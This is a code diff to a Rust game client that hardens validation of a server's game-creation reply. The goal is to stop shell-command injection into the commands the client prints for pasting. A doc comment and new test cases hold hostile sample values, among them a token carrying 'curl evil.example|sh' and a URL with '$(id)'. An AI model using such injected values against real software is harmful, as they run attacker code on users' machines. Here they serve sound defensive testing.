@@ -812,9 +812,13 @@ fn game_of(position: Position) -> Result<Game, ConnectionError> {
     Ok(game)
 }
 
-/// The `created` reply as the client may print it: the game's id, its tokens and the server's
-/// public address go into the links and commands `asl new` prints and saves, and the sides'
-/// names beside them, so each is held to text with no control or bidi character.
+/// The `created` reply as the client may print it. `asl new` prints commands to paste into a
+/// shell (`asl play --server URL --game ID --token TOKEN`) and links, made of the game's id,
+/// its tokens, the sides' ids and the server's public address, with the sides' names beside
+/// them: a hostile server could otherwise hand the player a command that runs another
+/// (`--token x;curl …|sh`) or a terminal escape. Ids and tokens are words (letters, digits,
+/// `-`, `_`), the address is a URL's characters only, and the names hold no control or bidi
+/// character.
 fn checked_new_game(created: NewGame) -> Result<NewGame, ConnectionError> {
     let NewGame {
         game,
@@ -822,6 +826,19 @@ fn checked_new_game(created: NewGame) -> Result<NewGame, ConnectionError> {
         tokens,
         public_url,
     } = &created;
+    let word = |text: &str| {
+        !text.is_empty()
+            && text.len() <= WORD_BYTES_MAX
+            && text
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+    };
+    let refuse = |what: &str, text: &str, allowed: &str| {
+        Err(ConnectionError::Malformed(format!(
+            "the `created` reply gives a {what} that is not {allowed}: {}",
+            crate::printable(text)
+        )))
+    };
     let words = [
         ("game id", game.as_str()),
         ("token", tokens.side_a.as_str()),
@@ -829,21 +846,43 @@ fn checked_new_game(created: NewGame) -> Result<NewGame, ConnectionError> {
         ("token", tokens.spectator.as_str()),
         ("side id", sides[0].id.as_str()),
         ("side id", sides[1].id.as_str()),
-        ("side name", sides[0].name.as_str()),
-        ("side name", sides[1].name.as_str()),
-    ]
-    .into_iter()
-    .chain(public_url.as_deref().map(|url| ("public address", url)));
+    ];
     for (what, text) in words {
-        if !crate::plain(text) {
-            return Err(ConnectionError::Malformed(format!(
-                "the `created` reply gives a {what} holding control or bidi characters: {}",
-                crate::printable(text)
-            )));
+        if !word(text) {
+            return refuse(
+                what,
+                text,
+                &format!("a word of letters, digits, - and _ within {WORD_BYTES_MAX} bytes"),
+            );
+        }
+    }
+    for side in sides {
+        if !crate::plain(&side.name) {
+            return refuse(
+                "side name",
+                &side.name,
+                "free of control and bidi characters",
+            );
+        }
+    }
+    if let Some(address) = public_url {
+        if !wire::is_public_url(address) {
+            return refuse(
+                "public address",
+                address,
+                &format!(
+                    "a URL's letters, digits and -_.:/[]%~@+, within {} bytes",
+                    wire::PUBLIC_URL_BYTES_MAX
+                ),
+            );
         }
     }
     Ok(created)
 }
+
+/// Longest game id or token `created` may give: far past the 64 hex digits of asl-server's
+/// tokens.
+const WORD_BYTES_MAX: usize = 256;
 
 /// The version a message reports, if any: a stream event's `seq` or a reply's `version`.
 fn version_of(message: &ServerMessage) -> Option<u64> {
@@ -924,8 +963,9 @@ mod tests {
     }
 
     /// `asl new` prints and saves what `created` says: the game id, tokens and public address
-    /// go into commands and links, the sides' names beside them. A server putting a terminal
-    /// escape in any of them is refused, the words shown escaped.
+    /// go into commands to paste and links, the sides' names beside them. A server putting a
+    /// terminal escape in any of them, or a shell's word in a command, is refused, the words
+    /// shown escaped.
     #[test]
     fn a_created_reply_with_control_characters_is_refused() {
         let fair = NewGame {
@@ -964,12 +1004,22 @@ mod tests {
         let mut v = fair.clone();
         v.public_url = Some(format!("wss://{hostile}"));
         variants.push(v);
+        // A command to paste that runs another.
+        let mut v = fair.clone();
+        v.tokens.side_b = "tb;curl evil.example|sh".into();
+        variants.push(v);
+        let mut v = fair.clone();
+        v.public_url = Some("ws://h:1 $(id)".into());
+        variants.push(v);
+        let mut v = fair.clone();
+        v.sides[0].id = "german --token x".into();
+        variants.push(v);
         for v in variants {
             let Err(e) = checked_new_game(v.clone()) else {
                 panic!("{v:?} was taken");
             };
             let text = e.to_string();
-            assert!(text.contains("control or bidi"), "{text}");
+            assert!(text.contains("is not"), "{text}");
             assert!(crate::plain(&text), "{text:?}");
         }
     }
